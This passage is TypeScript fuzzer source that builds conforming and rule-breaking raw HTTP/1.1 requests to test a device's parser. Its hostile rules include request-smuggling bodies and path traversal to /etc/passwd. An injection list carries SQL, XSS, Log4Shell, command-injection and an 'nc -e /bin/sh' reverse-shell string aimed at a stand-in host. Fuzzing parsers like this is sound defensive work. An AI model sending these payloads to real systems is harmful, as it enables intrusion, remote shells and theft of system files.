// fast-check arbitraries for raw HTTP/1.1 request bytes: one case is one TCP
// connection's worth of requests, pipelined. Hand-encoded on purpose: undici
// (the harness's HTTP client) normalises or refuses malformed requests — it
// validates methods, request-targets and header values, writes its own Host
// and framing, and will not send Content-Length beside Transfer-Encoding —
// so the fuzzer writes every byte itself to reach the device's own parser.
//
// Valid mode: RFC 9112 conforming requests (origin-form and OPTIONS *,
// Content-Length and chunked bodies with extensions and trailers, Expect:
// 100-continue, keep-alive/close). Hostile mode: each case breaks one rule,
// named with its RFC section in the label, then may pipeline valid requests
// behind it, so a desynchronised parser shows in the replies that follow.

import fc from 'fast-check';
import type { FuzzCase, FuzzMode, FuzzStep } from '../../model/index.js';

export interface HttpCaseOptions {
  readonly mode: FuzzMode;
  /** Paths known on the target (public and protected routes); default ['/']. */
  readonly paths?: readonly string[];
  /** The Host header value to use in valid requests, e.g. '127.0.0.1:8080'. */
  readonly host: string;
  /** Extra headers for an authenticated session, e.g. { authorization: 'Bearer abc' }. */
  readonly headers?: Readonly<Record<string, string>>;
  /** Max requests per case (pipelined on one connection), default 4. */
  readonly maxSteps?: number;
}

/** One request's bytes: conforming (valid) or breaking one rule (hostile). */
export function httpRequestArb(opts: HttpCaseOptions): fc.Arbitrary<FuzzStep> {
  const ctx = contextOf(opts);
  return opts.mode === 'valid' ? validRequestArb(ctx).map((r) => encodeValid(ctx, r)) : hostileRequestArb(ctx);
}

/** 1..maxSteps requests for one connection; hostile cases lead with the rule-breaking request. */
export function httpCaseArb(opts: HttpCaseOptions): fc.Arbitrary<FuzzCase> {
  const ctx = contextOf(opts);
  const max = Math.max(1, Math.floor(opts.maxSteps ?? 4));
  const valid = validRequestArb(ctx);
  if (opts.mode === 'valid') {
    return fc.array(valid, { minLength: 1, maxLength: max }).map((reqs) => {
      const steps = onlyLastCloses(reqs).map((r) => encodeValid(ctx, r));
      const first = steps[0]!.label;
      return { steps, label: steps.length === 1 ? first : `${first} (+${steps.length - 1} pipelined)` };
    });
  }
  return fc
    .tuple(hostileRequestArb(ctx), fc.array(valid, { maxLength: max - 1 }))
    .map(([bad, after]) => ({ steps: [bad, ...onlyLastCloses(after).map((r) => encodeValid(ctx, r))], label: bad.label }));
}

// ---------------------------------------------------------------- encoding

type Field = readonly [name: string, value: string];

interface Context {
  readonly paths: readonly string[];
  readonly host: string;
  /** The session's extra headers, minus any that would change framing or Host. */
  readonly extra: readonly Field[];
}

const FRAMING = new Set(['host', 'content-length', 'transfer-encoding', 'connection', 'expect', 'trailer']);

function contextOf(opts: HttpCaseOptions): Context {
  const paths = opts.paths && opts.paths.length > 0 ? opts.paths : ['/'];
  const extra = Object.entries(opts.headers ?? {}).filter(([name]) => !FRAMING.has(name.toLowerCase()));
  return { paths, host: opts.host, extra };
}

const CRLF = '\r\n';

/** Latin-1 strings (the head, byte for byte) and ready bytes, into one fresh array. */
function bytesOf(...parts: readonly (string | Uint8Array)[]): Uint8Array {
  const bufs = parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'latin1') : p));
  const out = new Uint8Array(bufs.reduce((n, b) => n + b.length, 0));
  let at = 0;
  for (const b of bufs) {
    out.set(b, at);
    at += b.length;
  }
  return out;
}

const utf8 = (s: string): Uint8Array => new TextEncoder().encode(s);

/** A request as lines: hostile generators bend exactly one part of it. */
interface RawRequest {
  readonly line: string;
  readonly fields: readonly string[];
  readonly body?: Uint8Array | string;
  /** Line terminator for the head; CRLF unless the rule is about it. */
  readonly eol?: string;
}

const encodeRaw = ({ line, fields, body = '', eol = CRLF }: RawRequest): Uint8Array =>
  bytesOf(line + eol + fields.map((f) => f + eol).join('') + eol, body);

// ---------------------------------------------------------------- valid mode

const METHODS = ['GET', 'HEAD', 'POST', 'PUT', 'DELETE', 'OPTIONS'] as const;
type Method = (typeof METHODS)[number];

type BodyKind = 'json' | 'form' | 'text' | 'binary' | 'empty';

interface Chunking {
  /** Sizes of the leading chunks; the rest of the data is one more chunk. None is zero: `0` ends the body [RFC9112 7.1]. */
  readonly sizes: readonly number[];
  readonly exts: readonly string[];
  readonly lastExt: string;
  readonly trailers: readonly Field[];
  readonly upperHex: boolean;
}

interface ValidBody {
  readonly kind: BodyKind;
  readonly type: string | undefined;
  readonly data: Uint8Array;
  readonly chunked: Chunking | undefined;
  /** Only with content: a client MUST NOT send 100-continue without it [RFC9110 10.1.1]. */
  readonly expectContinue: boolean;
}

interface ValidRequest {
  readonly method: Method;
  readonly target: string;
  readonly userAgent: string;
  readonly accept: string;
  readonly body: ValidBody | undefined;
  readonly connection: 'keep-alive' | 'close' | undefined;
  /** Field names are case-insensitive [RFC9110 5.1]. */
  readonly casing: 'canonical' | 'lower' | 'upper';
}

const tokenArb = fc.stringMatching(/^[a-z][a-z0-9-]{0,7}$/);
const asciiArb = (maxLength: number) => fc.string({ unit: 'grapheme-ascii', maxLength });

const queryArb = fc.option(
  fc.array(fc.tuple(tokenArb, asciiArb(16)), { minLength: 1, maxLength: 3 }).map((kv) => kv.map(([k, v]) => `${k}=${encodeURIComponent(v)}`).join('&')),
  { nil: undefined, freq: 2 },
);

const withQuery = (path: string, query: string | undefined) => (query === undefined ? path : `${path}${path.includes('?') ? '&' : '?'}${query}`);

const jsonValueArb = fc.oneof(asciiArb(24), fc.string({ unit: 'grapheme', maxLength: 8 }), fc.integer(), fc.boolean(), fc.constant(null));
const jsonKeyArb = fc.stringMatching(/^[a-z][a-zA-Z0-9_]{0,11}$/);

const contentArb: fc.Arbitrary<{ kind: BodyKind; type: string | undefined; data: Uint8Array }> = fc.oneof(
  fc.dictionary(jsonKeyArb, jsonValueArb, { maxKeys: 6 }).map((o) => ({ kind: 'json' as const, type: 'application/json', data: utf8(JSON.stringify(o)) })),
  fc
    .array(fc.tuple(tokenArb, asciiArb(20)), { maxLength: 5 })
    .map((kv) => ({ kind: 'form' as const, type: 'application/x-www-form-urlencoded', data: utf8(new URLSearchParams(kv).toString()) })),
  fc.string({ unit: 'grapheme', maxLength: 120 }).map((s) => ({ kind: 'text' as const, type: 'text/plain; charset=utf-8', data: utf8(s) })),
  fc.uint8Array({ maxLength: 512 }).map((data) => ({ kind: 'binary' as const, type: 'application/octet-stream', data })),
  fc.constant({ kind: 'empty' as const, type: undefined, data: new Uint8Array(0) }),
);

// chunk-ext = *( BWS ";" BWS chunk-ext-name [ BWS "=" BWS chunk-ext-val ] ) [RFC9112 7.1.1]; no BWS here.
const chunkExtArb = fc.oneof(
  { arbitrary: fc.constant(''), weight: 3 },
  tokenArb.map((n) => `;${n}`),
  fc.tuple(tokenArb, tokenArb).map(([n, v]) => `;${n}=${v}`),
  fc.tuple(tokenArb, fc.stringMatching(/^[a-zA-Z0-9 ]{0,12}$/)).map(([n, v]) => `;${n}="${v}"`),
);

const TRAILERS: readonly Field[] = [
  ['X-Checksum', 'sha256-0f3a'],
  ['X-Trace-Id', 'gauntlet-1'],
  ['X-Count', '3'],
];

const chunkingArb: fc.Arbitrary<Chunking> = fc.record({
  sizes: fc.array(fc.integer({ min: 1, max: 64 }), { maxLength: 4 }),
  exts: fc.array(chunkExtArb, { minLength: 5, maxLength: 5 }),
  lastExt: chunkExtArb,
  trailers: fc.subarray([...TRAILERS]),
  upperHex: fc.boolean(),
});

const bodyArb: fc.Arbitrary<ValidBody> = fc
  .record({ content: contentArb, chunked: fc.option(chunkingArb, { nil: undefined, freq: 2 }), expect: fc.boolean() })
  .map(({ content, chunked, expect }) => ({ ...content, chunked, expectContinue: expect && (content.data.length > 0 || chunked !== undefined) }));

const validRequestArb = (ctx: Context): fc.Arbitrary<ValidRequest> =>
  fc
    .record({
      // half the requests carry content
      method: fc.oneof(fc.constantFrom<Method>('POST', 'PUT'), fc.constantFrom<Method>('GET', 'HEAD', 'DELETE', 'OPTIONS')),
      path: fc.constantFrom(...ctx.paths),
      query: queryArb,
      asterisk: fc.boolean(),
      userAgent: fc.constantFrom('gauntlet-fuzz/0.1', 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0', 'curl/8.5.0'),
      accept: fc.constantFrom('*/*', 'application/json', 'text/html,application/xhtml+xml;q=0.9,*/*;q=0.8'),
      body: bodyArb,
      connection: fc.constantFrom('keep-alive' as const, 'close' as const, undefined),
      casing: fc.constantFrom('canonical' as const, 'lower' as const, 'upper' as const),
    })
    .map(({ method, path, query, asterisk, body, ...rest }) => ({
      ...rest,
      method,
      // asterisk-form is for OPTIONS only [RFC9112 3.2.4]
      target: method === 'OPTIONS' && asterisk ? '*' : withQuery(path, query),
      body: method === 'POST' || method === 'PUT' ? body : undefined,
    }));

/** The server stops reading after `Connection: close` [RFC9112 9.6], so only the last request says it. */
const onlyLastCloses = (reqs: readonly ValidRequest[]): ValidRequest[] =>
  reqs.map((r, i) => (i < reqs.length - 1 && r.connection === 'close' ? { ...r, connection: 'keep-alive' } : r));

function encodeChunked(data: Uint8Array, c: Chunking): (string | Uint8Array)[] {
  const chunks: Uint8Array[] = [];
  let at = 0;
  for (const size of c.sizes) {
    if (at >= data.length) break;
    chunks.push(data.subarray(at, at + size));
    at += size;
  }
  if (at < data.length) chunks.push(data.subarray(at));
  const hex = (n: number) => (c.upperHex ? n.toString(16).toUpperCase() : n.toString(16));
  const out: (string | Uint8Array)[] = [];
  chunks.forEach((chunk, i) => out.push(`${hex(chunk.length)}${c.exts[i % c.exts.length] ?? ''}${CRLF}`, chunk, CRLF));
  out.push(`0${c.lastExt}${CRLF}`, ...c.trailers.map(([n, v]) => `${n}: ${v}${CRLF}`), CRLF);
  return out;
}

function encodeValid(ctx: Context, r: ValidRequest): FuzzStep {
  const name = (n: string) => (r.casing === 'lower' ? n.toLowerCase() : r.casing === 'upper' ? n.toUpperCase() : n);
  const own = new Set(ctx.extra.map(([n]) => n.toLowerCase()));
  const fields: Field[] = [['Host', ctx.host]];
  if (!own.has('user-agent')) fields.push(['User-Agent', r.userAgent]);
  if (!own.has('accept')) fields.push(['Accept', r.accept]);
  fields.push(...ctx.extra);
  const b = r.body;
  const body: (string | Uint8Array)[] = [];
  if (b) {
    if (b.type !== undefined) fields.push(['Content-Type', b.type]);
    if (b.chunked) {
      fields.push(['Transfer-Encoding', 'chunked']);
      // a sender SHOULD announce the trailer fields it will send [RFC9110 6.6.2]
      if (b.chunked.trailers.length > 0) fields.push(['Trailer', b.chunked.trailers.map(([n]) => n).join(', ')]);
      body.push(...encodeChunked(b.data, b.chunked));
    } else {
      fields.push(['Content-Length', String(b.data.length)]);
      body.push(b.data);
    }
    if (b.expectContinue) fields.push(['Expect', '100-continue']);
  }
  if (r.connection) fields.push(['Connection', r.connection]);
  const head = `${r.method} ${r.target} HTTP/1.1${CRLF}${fields.map(([n, v]) => `${own.has(n.toLowerCase()) ? n : name(n)}: ${v}${CRLF}`).join('')}${CRLF}`;
  const what = b ? ` ${b.kind}${b.chunked ? ' chunked' : ''} ${b.data.length}B` : '';
  return { bytes: bytesOf(head, ...body), label: `${r.method} ${r.target}${what}` };
}

// ---------------------------------------------------------------- hostile mode

/** One rule to break: its name, the section it is in, and requests that break it. */
interface Rule {
  readonly rule: string;
  readonly ref: string;
  readonly arb: fc.Arbitrary<Uint8Array>;
  /** Large cases (tens of KiB and up) are kept rare. */
  readonly large?: boolean;
}

const KiB = 1024;
const INJECTIONS = ["' OR 1=1--", '" OR ""="', '<script>alert(1)</script>', '${jndi:ldap://x/a}', '$(reboot)', '; cat /etc/passwd', '`id`', '| nc -e /bin/sh x 4444', '{{7*7}}'];

function hostileRequestArb(ctx: Context): fc.Arbitrary<FuzzStep> {
  const arbs = rules(ctx).map(({ rule, ref, arb, large }) => ({
    weight: large ? 1 : 4,
    arbitrary: arb.map((bytes): FuzzStep => ({ bytes, label: `hostile: ${rule} [${ref}]` })),
  }));
  return fc.oneof(...arbs);
}

function rules(ctx: Context): Rule[] {
  const path = fc.constantFrom(...ctx.paths);
  const hostLine = `Host: ${ctx.host}`;
  const rest = ['User-Agent: gauntlet-fuzz/0.1', 'Accept: */*', ...ctx.extra.map(([n, v]) => `${n}: ${v}`)];
  const std = [hostLine, ...rest];
  const bodiless = fc.constantFrom('GET', 'HEAD', 'DELETE');
  const bodied = fc.constantFrom('POST', 'PUT');
  const get = (target: string, fields: readonly string[] = std) => encodeRaw({ line: `GET ${target} HTTP/1.1`, fields });
  const withLength = (method: string, target: string, type: string, body: Uint8Array | string, fields: readonly string[] = std) =>
    encodeRaw({ line: `${method} ${target} HTTP/1.1`, fields: [...fields, `Content-Type: ${type}`, `Content-Length: ${body.length}`], body });
  const json = (body: Uint8Array | string) => fc.tuple(bodied, path).map(([m, p]) => withLength(m, p, 'application/json', body));
  const smallBody = fc.stringMatching(/^[a-z0-9=&]{1,40}$/);
  const chunkedPost = (p: string, chunks: string, extra: readonly string[] = []) =>
    encodeRaw({ line: `POST ${p} HTTP/1.1`, fields: [...std, 'Content-Type: text/plain', ...extra, 'Transfer-Encoding: chunked'], body: chunks });
  const smuggled = (p: string) => `GET ${withQuery(p, 'smuggled=1')} HTTP/1.1${CRLF}${hostLine}${CRLF}${CRLF}`;
  const multipart = (p: string, contentType: string, body: string) => withLength('POST', p, contentType, body);
  const part = (boundary: string, data: string) =>
    `--${boundary}${CRLF}Content-Disposition: form-data; name="file"; filename="fw.bin"${CRLF}Content-Type: application/octet-stream${CRLF}${CRLF}${data}${CRLF}`;
  const traversal = (rule: string, targets: readonly string[]): Rule => ({
    rule,
    ref: 'RFC9110 17.3',
    arb: fc.tuple(bodiless, fc.constantFrom(...targets), path).map(([m, t, p]) => encodeRaw({ line: `${m} ${t.replace('{p}', p.replace(/\/$/, ''))} HTTP/1.1`, fields: std })),
  });

  return [
    // ------------------------------------------------------ request line [RFC9112 3]
    { rule: 'missing HTTP-version', ref: 'RFC9112 3', arb: fc.tuple(bodiless, path).map(([m, p]) => encodeRaw({ line: `${m} ${p}`, fields: std })) },
    { rule: 'HTTP/0.9 simple request', ref: 'RFC9112 2.3', arb: path.map((p) => bytesOf(`GET ${p}${CRLF}`)) },
    { rule: 'HTTP/1.2 (higher minor version)', ref: 'RFC9110 6.2', arb: fc.tuple(bodiless, path).map(([m, p]) => encodeRaw({ line: `${m} ${p} HTTP/1.2`, fields: std })) },
    {
      rule: 'unsupported major HTTP-version',
      ref: 'RFC9110 6.2',
      arb: fc.tuple(fc.constantFrom('HTTP/9.9', 'HTTP/2.0', 'HTTP/3.0'), path).map(([v, p]) => encodeRaw({ line: `GET ${p} ${v}`, fields: std })),
    },
    {
      rule: 'malformed HTTP-version',
      ref: 'RFC9112 2.3',
      arb: fc.tuple(fc.constantFrom('http/1.1', 'HTTP/1', 'HTTP/1.1.1', 'HTTP/01.1', 'HTTP /1.1', 'HTTP/1.x'), path).map(([v, p]) => encodeRaw({ line: `GET ${p} ${v}`, fields: std })),
    },
    {
      rule: 'lowercase method',
      ref: 'RFC9110 9.1',
      arb: fc.tuple(fc.constantFrom('get', 'head', 'post', 'delete', 'Get'), path).map(([m, p]) =>
        m === 'post' ? withLength(m, p, 'text/plain', 'x') : encodeRaw({ line: `${m} ${p} HTTP/1.1`, fields: std }),
      ),
    },
    {
      rule: 'unknown method',
      ref: 'RFC9110 9.1',
      arb: fc.tuple(fc.constantFrom('FUZZ', 'BREW', 'XYZZY', 'GETS', 'G3T'), path).map(([m, p]) => encodeRaw({ line: `${m} ${p} HTTP/1.1`, fields: std })),
    },
    {
      rule: 'absolute-form naming another authority',
      ref: 'RFC9112 3.2.2',
      arb: fc.tuple(fc.constantFrom('http://other.example', 'http://127.0.0.1:1', 'https://other.example:8443'), path).map(([origin, p]) => get(`${origin}${p}`)),
    },
    {
      rule: 'authority-form request-target',
      ref: 'RFC9112 3.2.3',
      arb: fc.tuple(fc.constantFrom('GET', 'CONNECT'), fc.constantFrom('other.example:443', ctx.host, '127.0.0.1:22')).map(([m, t]) =>
        encodeRaw({ line: `${m} ${t} HTTP/1.1`, fields: std }),
      ),
    },
    { rule: 'asterisk-form with GET', ref: 'RFC9112 3.2.4', arb: fc.constant(encodeRaw({ line: 'GET * HTTP/1.1', fields: std })) },
    { rule: 'space in request-target', ref: 'RFC9112 3.2', arb: fc.tuple(path, tokenArb).map(([p, t]) => get(`${p} ${t}`)) },
    {
      rule: 'CTL in request-target',
      ref: 'RFC9112 3.2',
      arb: fc.tuple(path, fc.constantFrom(0x01, 0x07, 0x08, 0x09, 0x0b, 0x0c, 0x1b, 0x1f, 0x7f)).map(([p, c]) => get(`${p}${String.fromCharCode(c)}x`)),
    },
    { rule: 'NUL in request-target', ref: 'RFC9112 3.2', arb: fc.tuple(path, tokenArb).map(([p, t]) => get(`${p}\0${t}`)) },
    {
      rule: '8 KiB request-target',
      ref: 'RFC9112 3',
      large: true,
      arb: fc.tuple(path, fc.constantFrom('a', '%41', '/')).map(([p, unit]) => get(padTarget(p, unit, 8 * KiB))),
    },
    {
      rule: '64 KiB request-target',
      ref: 'RFC9110 15.5.15',
      large: true,
      arb: fc.tuple(path, fc.constantFrom('a', '%41', '/')).map(([p, unit]) => get(padTarget(p, unit, 64 * KiB))),
    },
    {
      rule: 'bare LF line endings',
      ref: 'RFC9112 2.2',
      arb: fc.tuple(bodiless, path).map(([m, p]) => encodeRaw({ line: `${m} ${p} HTTP/1.1`, fields: std, eol: '\n' })),
    },
    {
      rule: 'bare CR without LF',
      ref: 'RFC9112 2.2',
      arb: fc.tuple(path, fc.constantFrom('line', 'value', 'end')).map(([p, where]) =>
        where === 'line'
          ? bytesOf(`GET ${p} HTTP/1.1\r${std.map((f) => f + CRLF).join('')}${CRLF}`)
          : where === 'value'
            ? get(p, [...std, 'X-Note: a\rb'])
            : bytesOf(`GET ${p} HTTP/1.1${CRLF}${std.map((f) => f + CRLF).join('')}\r\r`),
      ),
    },
    // ------------------------------------------------------ header fields [RFC9112 5, RFC9110 5]
    {
      rule: 'obs-fold continuation line',
      ref: 'RFC9112 5.2',
      arb: fc.tuple(path, fc.constantFrom(' ', '\t', '   ')).map(([p, ws]) => get(p, [...std, 'X-Note: first', `${ws}folded`])),
    },
    {
      rule: 'whitespace between field name and colon',
      ref: 'RFC9112 5.1',
      arb: fc.tuple(path, fc.constantFrom(' ', '\t'), fc.constantFrom('X-Note', 'Accept', 'Host')).map(([p, ws, n]) =>
        get(p, n === 'Host' ? [`Host${ws}: ${ctx.host}`, ...rest] : [...std, `${n}${ws}: v`]),
      ),
    },
    {
      rule: 'invalid header name',
      ref: 'RFC9110 5.1',
      arb: fc.tuple(path, fc.constantFrom('X(A)', 'X<A>', 'X@A', 'X,A', 'X;A', 'X"A', 'X/A', 'X[A]', 'X{A}', 'X=A', 'X?A', 'X\\A', 'X\x01A', 'X\x7fA', '')).map(([p, n]) =>
        get(p, [...std, `${n}: v`]),
      ),
    },
    { rule: 'NUL in field value', ref: 'RFC9110 5.5', arb: fc.tuple(path, tokenArb).map(([p, t]) => get(p, [...std, `X-Note: ${t}\0${t}`])) },
    {
      rule: 'CTL in field value',
      ref: 'RFC9110 5.5',
      arb: fc.tuple(path, fc.constantFrom(0x01, 0x07, 0x08, 0x0b, 0x0c, 0x1b, 0x1f, 0x7f)).map(([p, c]) => get(p, [...std, `X-Note: a${String.fromCharCode(c)}b`])),
    },
    {
      rule: 'about 2000 header fields',
      ref: 'RFC9110 5.4',
      large: true,
      arb: fc.tuple(path, fc.integer({ min: 1900, max: 2100 })).map(([p, n]) => get(p, [...std, ...Array.from({ length: n }, (_, i) => `X-F${i}: ${i}`)])),
    },
    {
      rule: '64 KiB field value',
      ref: 'RFC9110 5.4',
      large: true,
      arb: fc.tuple(path, fc.constantFrom('a', 'A', '0')).map(([p, c]) => get(p, [...std, `X-Big: ${c.repeat(64 * KiB)}`])),
    },
    {
      rule: 'duplicate Host',
      ref: 'RFC9112 3.2',
      arb: fc.tuple(path, fc.constantFrom(ctx.host, 'other.example', 'localhost')).map(([p, h]) => get(p, [hostLine, `Host: ${h}`, ...rest])),
    },
    { rule: 'missing Host', ref: 'RFC9112 3.2', arb: fc.tuple(bodiless, path).map(([m, p]) => encodeRaw({ line: `${m} ${p} HTTP/1.1`, fields: rest })) },
    {
      rule: 'Host port out of range',
      ref: 'RFC9110 7.2',
      arb: fc.tuple(path, fc.constantFrom('99999', '65536', '4294967297')).map(([p, port]) => get(p, [`Host: ${hostname(ctx.host)}:${port}`, ...rest])),
    },
    {
      rule: 'invalid Host value',
      ref: 'RFC9112 3.2',
      arb: fc.tuple(path, fc.constantFrom('exa mple', 'a/b', 'user@other.example', '[::1', 'host:port')).map(([p, h]) => get(p, [`Host: ${h}`, ...rest])),
    },
    // ------------------------------------------------------ body framing [RFC9112 6, 7]
    {
      rule: 'Content-Length and Transfer-Encoding together',
      ref: 'RFC9112 6.1',
      arb: fc.tuple(path, fc.boolean(), fc.boolean()).map(([p, clFirst, coversSmuggled]) => {
        // CL.TE: a length that also covers a smuggled request, or TE.CL: a length that stops inside the chunks [RFC9112 11.2]
        const body = `0${CRLF}${CRLF}${smuggled(p)}`;
        const cl = `Content-Length: ${coversSmuggled ? body.length : 3}`;
        const te = 'Transfer-Encoding: chunked';
        return encodeRaw({ line: `POST ${p} HTTP/1.1`, fields: [...std, ...(clFirst ? [cl, te] : [te, cl])], body });
      }),
    },
    {
      rule: 'two different Content-Length values',
      ref: 'RFC9112 6.3',
      arb: fc.tuple(path, smallBody, fc.integer({ min: 1, max: 20 }), fc.boolean()).map(([p, b, d, oneLine]) =>
        encodeRaw({
          line: `POST ${p} HTTP/1.1`,
          fields: [...std, ...(oneLine ? [`Content-Length: ${b.length}, ${b.length + d}`] : [`Content-Length: ${b.length}`, `Content-Length: ${b.length + d}`])],
          body: b,
        }),
      ),
    },
    {
      rule: 'negative Content-Length',
      ref: 'RFC9110 8.6',
      arb: fc.tuple(path, smallBody, fc.constantFrom('-1', '-0', '-4294967296')).map(([p, b, cl]) => encodeRaw({ line: `POST ${p} HTTP/1.1`, fields: [...std, `Content-Length: ${cl}`], body: b })),
    },
    {
      rule: 'Content-Length integer overflow',
      ref: 'RFC9110 8.6',
      arb: fc
        .tuple(path, smallBody, fc.constantFrom('18446744073709551616', '18446744073709551617', '99999999999999999999999999', '9007199254740993'))
        .map(([p, b, cl]) => encodeRaw({ line: `POST ${p} HTTP/1.1`, fields: [...std, `Content-Length: ${cl}`], body: b })),
    },
    {
      rule: 'non-numeric Content-Length',
      ref: 'RFC9110 8.6',
      arb: fc.tuple(path, smallBody, fc.constantFrom('0x10', '1e3', '+5', 'five', '5.0', '', '5 5', '5a')).map(([p, b, cl]) =>
        encodeRaw({ line: `POST ${p} HTTP/1.1`, fields: [...std, `Content-Length: ${cl}`], body: b }),
      ),
    },
    {
      rule: 'Content-Length larger than the body sent',
      ref: 'RFC9112 6.3',
      arb: fc.tuple(path, smallBody, fc.integer({ min: 1, max: 4096 })).map(([p, b, more]) =>
        encodeRaw({ line: `POST ${p} HTTP/1.1`, fields: [...std, 'Content-Type: text/plain', `Content-Length: ${b.length + more}`], body: b }),
      ),
    },
    {
      rule: 'chunk-size hex overflow',
      ref: 'RFC9112 7.1',
      arb: fc.tuple(path, fc.constantFrom('ffffffffffffffff1', '10000000000000000', 'fffffffffffffffffffffffff', '8000000000000000')).map(([p, size]) =>
        chunkedPost(p, `${size}${CRLF}abc${CRLF}0${CRLF}${CRLF}`),
      ),
    },
    {
      rule: 'invalid chunk-size characters',
      ref: 'RFC9112 7.1',
      arb: fc.tuple(path, fc.constantFrom('0x3', '3g', '-3', '+3', ' 3', '3 3', '', 'z')).map(([p, size]) => chunkedPost(p, `${size}${CRLF}abc${CRLF}0${CRLF}${CRLF}`)),
    },
    {
      rule: 'missing last chunk',
      ref: 'RFC9112 7.1',
      arb: fc.tuple(path, smallBody).map(([p, b]) => chunkedPost(p, `${b.length.toString(16)}${CRLF}${b}${CRLF}`)),
    },
    {
      rule: '10 KiB chunk extension',
      ref: 'RFC9112 7.1.1',
      large: true,
      arb: fc.tuple(path, fc.constantFrom('name', 'quoted')).map(([p, form]) => {
        const ext = form === 'name' ? `;${'x'.repeat(10 * KiB)}` : `;e="${'x'.repeat(10 * KiB)}"`;
        return chunkedPost(p, `3${ext}${CRLF}abc${CRLF}0${CRLF}${CRLF}`);
      }),
    },
    {
      rule: 'chunked not the final transfer coding',
      ref: 'RFC9112 6.1',
      arb: fc.tuple(path, fc.constantFrom('chunked, identity', 'chunked, gzip')).map(([p, te]) =>
        encodeRaw({ line: `POST ${p} HTTP/1.1`, fields: [...std, `Transfer-Encoding: ${te}`], body: `3${CRLF}abc${CRLF}0${CRLF}${CRLF}` }),
      ),
    },
    {
      rule: 'Transfer-Encoding: identity',
      ref: 'RFC9112 6.1',
      arb: fc.tuple(path, smallBody).map(([p, b]) => encodeRaw({ line: `POST ${p} HTTP/1.1`, fields: [...std, 'Transfer-Encoding: identity'], body: b })),
    },
    {
      rule: 'unknown transfer coding like xchunked',
      ref: 'RFC9112 6.1',
      arb: fc.tuple(path, fc.constantFrom('xchunked', 'chunked-x', 'chunk')).map(([p, te]) =>
        encodeRaw({ line: `POST ${p} HTTP/1.1`, fields: [...std, `Transfer-Encoding: ${te}`], body: `3${CRLF}abc${CRLF}0${CRLF}${CRLF}` }),
      ),
    },
    {
      rule: 'chunked applied twice',
      ref: 'RFC9112 6.1',
      arb: fc.tuple(path, fc.boolean()).map(([p, twoLines]) =>
        encodeRaw({
          line: `POST ${p} HTTP/1.1`,
          fields: [...std, ...(twoLines ? ['Transfer-Encoding: chunked', 'Transfer-Encoding: chunked'] : ['Transfer-Encoding: chunked, chunked'])],
          body: `3${CRLF}abc${CRLF}0${CRLF}${CRLF}`,
        }),
      ),
    },
    {
      rule: 'Transfer-Encoding in an HTTP/1.0 request',
      ref: 'RFC9112 6.1',
      arb: path.map((p) => encodeRaw({ line: `POST ${p} HTTP/1.0`, fields: [...std, 'Transfer-Encoding: chunked'], body: `3${CRLF}abc${CRLF}0${CRLF}${CRLF}` })),
    },
    // ------------------------------------------------------ paths and encodings [RFC9110 17.3]
    traversal('dot-segment path traversal', ['/../../etc/passwd', '{p}/../../../../etc/passwd', '/./././../etc/shadow', '{p}/..']),
    traversal('percent-encoded traversal', ['/%2e%2e/%2e%2e/etc/passwd', '{p}/%2e%2e%2f%2e%2e%2fetc%2fpasswd', '/..%2f..%2fetc%2fpasswd', '/%2E%2E%5C%2E%2E%5Cwindows%5Cwin.ini']),
    traversal('double-encoded traversal', ['/%252e%252e%252f%252e%252e%252fetc%252fpasswd', '{p}/%252e%252e/%252e%252e/etc/passwd']),
    traversal('overlong UTF-8 in path', ['/..%c0%af..%c0%afetc%c0%afpasswd', '{p}/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', '/%e0%80%af']),
    traversal('encoded NUL in path', ['{p}/%00', '{p}/index.html%00.jpg', '/%00/../etc/passwd']),
    // ------------------------------------------------------ injection [RFC9110 17.4]
    {
      rule: 'injection string in query',
      ref: 'RFC9110 17.4',
      arb: fc.tuple(bodiless, path, tokenArb, fc.constantFrom(...INJECTIONS)).map(([m, p, k, v]) =>
        encodeRaw({ line: `${m} ${withQuery(p, `${k}=${encodeURIComponent(v)}`)} HTTP/1.1`, fields: std }),
      ),
    },
    {
      rule: 'injection string in JSON body',
      ref: 'RFC9110 17.4',
      arb: fc
        .tuple(bodied, path, fc.constantFrom('username', 'password', 'name', 'url', 'cmd'), fc.constantFrom(...INJECTIONS))
        .map(([m, p, k, v]) => withLength(m, p, 'application/json', utf8(JSON.stringify({ [k]: v, password: 'x' })))),
    },
    {
      rule: 'injection string in header value',
      ref: 'RFC9110 17.4',
      arb: fc
        .tuple(path, fc.constantFrom('User-Agent', 'Referer', 'X-Forwarded-For', 'Cookie'), fc.constantFrom(...INJECTIONS))
        .map(([p, n, v]) => get(p, [hostLine, `${n}: ${v}`, ...rest.filter((f) => !f.toLowerCase().startsWith(`${n.toLowerCase()}:`))])),
    },
    // ------------------------------------------------------ invalid JSON with application/json
    {
      rule: 'JSON nested 10000 deep',
      ref: 'RFC8259 9',
      large: true,
      arb: fc.boolean().chain((closed) => json('['.repeat(10_000) + (closed ? ']'.repeat(10_000) : ''))),
    },
    {
      rule: 'truncated JSON',
      ref: 'RFC8259 2',
      arb: fc.constantFrom('{"username":"admin","pass', '{"a":[1,2,', '{', '"unterminated', '{"a":tru').chain(json),
    },
    {
      rule: 'JSON number out of range',
      ref: 'RFC8259 6',
      arb: fc.constantFrom('{"n":1e400}', '{"n":-1e400}', `{"n":${'9'.repeat(400)}}`, '{"n":0.' + '0'.repeat(400) + '1}', '{"n":18446744073709551616}').chain(json),
    },
    {
      rule: 'JSON duplicate keys',
      ref: 'RFC8259 4',
      arb: fc.constantFrom('{"role":"user","role":"admin"}', '{"username":"a","username":"admin","password":"x"}', '{"__proto__":{"admin":true},"__proto__":1}').chain(json),
    },
    {
      rule: 'JSON with byte order mark',
      ref: 'RFC8259 8.1',
      arb: fc.dictionary(jsonKeyArb, asciiArb(12), { maxKeys: 3 }).chain((o) => json(bytesOf(Uint8Array.of(0xef, 0xbb, 0xbf), utf8(JSON.stringify(o))))),
    },
    // ------------------------------------------------------ multipart [RFC2046 5.1.1]
    {
      rule: 'multipart without close-delimiter',
      ref: 'RFC2046 5.1.1',
      arb: fc.tuple(path, tokenArb).map(([p, b]) => multipart(p, `multipart/form-data; boundary=${b}`, part(b, 'firmware'))),
    },
    {
      rule: 'multipart boundary mismatch',
      ref: 'RFC2046 5.1.1',
      arb: fc.tuple(path, tokenArb).map(([p, b]) => multipart(p, `multipart/form-data; boundary=${b}`, `${part(`${b}x`, 'firmware')}--${b}x--${CRLF}`)),
    },
    {
      rule: 'multipart boundary over 70 characters',
      ref: 'RFC2046 5.1.1',
